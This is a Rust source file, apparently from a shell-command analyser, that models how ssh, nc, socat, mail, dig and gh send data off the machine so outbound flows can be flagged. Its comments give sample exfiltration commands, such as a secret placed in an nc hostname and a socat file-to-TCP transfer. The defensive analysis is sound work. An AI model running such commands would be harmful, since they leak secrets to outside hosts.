//! Programs that talk to one host: shells on other machines, raw connections, name servers, GitHub.

use super::super::call::Call;
use super::super::collector::Collector;
use super::{file, text};
use crate::model::{OpaqueReason, Sent, Word};

/// `ssh host command`: what it runs, it runs elsewhere.
pub(in super::super) fn ssh(call: &Call, found: &mut Collector) {
    call.reads_values("i F", found);
    let Some((host, command)) = call.operands.split_first() else { return };
    let mut sends: Vec<Sent> = command.iter().map(|word| text(word)).collect();
    sends.extend(input(call));
    found.network(host.text.clone(), sends);
}

fn input(call: &Call) -> Option<Sent> {
    call.has_input().then_some(Sent::Input)
}

/// `nc host port`, `socat - TCP:host:port`, `telnet host port`
pub(in super::super) fn connect(call: &Call, found: &mut Collector) {
    // With these options, and with socat always, it may start a program.
    if call.has("e c exec sh-exec") || call.name == "socat" {
        found.opaque(OpaqueReason::Program, call.name);
    }
    let to = match call.operands.as_slice() {
        [first, second] if call.name == "socat" => [first, second]
            .into_iter()
            .filter_map(|word| word.text.clone())
            .find(|text| text.contains(':') && socat_file(text).is_none() && !text.starts_with("EXEC")),
        [host, port, ..] => match (&host.text, &port.text) {
            (Some(host), Some(port)) => Some(format!("{host}:{port}")),
            (Some(host), None) => Some(host.clone()),
            (None, _) => None,
        },
        [host] => host.text.clone(),
        [] => None,
    };
    let mut sends: Vec<Sent> = call
        .operands
        .iter()
        // A host or port can carry data out: `nc "$SECRET.example.com" 80`.
        .filter(|word| word.text.is_none())
        .map(|word| Sent::Unknown(word.raw.clone()))
        .collect();
    if call.name == "socat" {
        // `socat FILE:secret TCP:host:port`
        let files = call.operands.iter().filter_map(|word| {
            let spelled = word.text.as_deref().unwrap_or(&word.raw);
            let path = socat_file(spelled)?;
            Some(if word.text.is_some() { Word::literal(path) } else { Word::unknown(path) })
        });
        sends.extend(files.map(|word| file(call, &word)));
    }
    sends.extend(input(call));
    found.network(to, sends);
}

/// The file that an address of socat names: `FILE:path,option`.
fn socat_file(address: &str) -> Option<&str> {
    let (kind, rest) = address.split_once(':')?;
    let is_file = ["FILE", "OPEN", "GOPEN", "CREATE"].iter().any(|name| kind.eq_ignore_ascii_case(name));
    rest.split(',').next().map(|path| path.trim_matches('"')).filter(|_| is_file)
}

/// `sftp`, `ftp`: what they do is decided when they run.
pub(in super::super) fn session(call: &Call, found: &mut Collector) {
    call.reads_values("b", found);
    found
        .network(call.operands.first().and_then(|host| host.text.clone()), input(call).into_iter().collect());
    found.opaque(OpaqueReason::Program, call.name);
}

/// `mail -a file address`
pub(in super::super) fn mail(call: &Call, found: &mut Collector) {
    let mut sends: Vec<Sent> = call.values("a A attach").map(|word| file(call, word)).collect();
    sends.extend(call.values("s subject").map(text));
    sends.extend(input(call));
    found.network(call.operands.first().and_then(|word| word.text.clone()), sends);
}

/// `dig`, `nslookup`, `host`, `ping`: the name that is looked up can contain a secret.
pub(in super::super) fn resolve(call: &Call, found: &mut Collector) {
    let unknown = call.operands.iter().filter(|word| word.text.is_none());
    let sends: Vec<Sent> = unknown.map(|word| Sent::Unknown(word.raw.clone())).collect();
    let name = call.operands.iter().find(|word| {
        word.text.as_deref().is_some_and(|text| !text.starts_with(['@', '+']) && text.contains('.'))
    });
    if sends.is_empty() && name.is_none() {
        return;
    }
    found.network(name.and_then(|word| word.text.clone()), sends);
}

/// `gh`
pub(in super::super) fn gh(call: &Call, found: &mut Collector) {
    const TO: &str = "github.com";
    let verb = |at: usize| call.operands.get(at).and_then(|word| word.text.as_deref()).unwrap_or_default();
    let rest = |from: usize| call.operands.get(from..).unwrap_or_default();
    let mut sends: Vec<Sent> = Vec::new();
    match (verb(0), verb(1)) {
        ("gist", "create" | "edit") => {
            sends.extend(rest(2).iter().map(|word| file(call, word)));
            if sends.is_empty() {
                sends.extend(input(call));
            }
        }
        ("release", "create" | "upload") => sends.extend(rest(3).iter().map(|word| file(call, word))),
        ("release" | "run", "download") | ("repo", "clone" | "fork") | ("pr" | "co", "checkout") => {
            found.opaque(OpaqueReason::Program, call.name);
        }
        ("api", _) => api(call, &mut sends),
        // These stay on this machine, or send nothing of it.
        ("auth" | "alias" | "config" | "extension" | "completion" | "help" | "version" | "", _) => return,
        ("secret" | "variable", "set") => {
            sends.extend(call.values("b body").map(text));
            sends.extend(call.values("f env-file").map(|word| file(call, word)));
            sends.extend(input(call));
        }
        _ => {
            sends.extend(call.values("b body t title n notes").map(text));
            sends.extend(call.values("F body-file notes-file").map(|word| file(call, word)));
        }
    }
    found.network(Some(TO.to_owned()), sends);
}

/// `gh api -f key=value -F key=@file --input file`
fn api(call: &Call, sends: &mut Vec<Sent>) {
    for value in call.values("F field") {
        let spelled = value.text.as_deref().unwrap_or(&value.raw);
        match spelled.split_once("=@") {
            Some((_, path)) if value.text.is_some() => sends.push(file(call, &Word::literal(path))),
            Some((_, path)) => sends.push(file(call, &Word::unknown(path))),
            None => sends.push(text(value)),
        }
    }
    sends.extend(call.values("f raw-field").map(text));
    sends.extend(call.values("input").map(|word| file(call, word)));
}
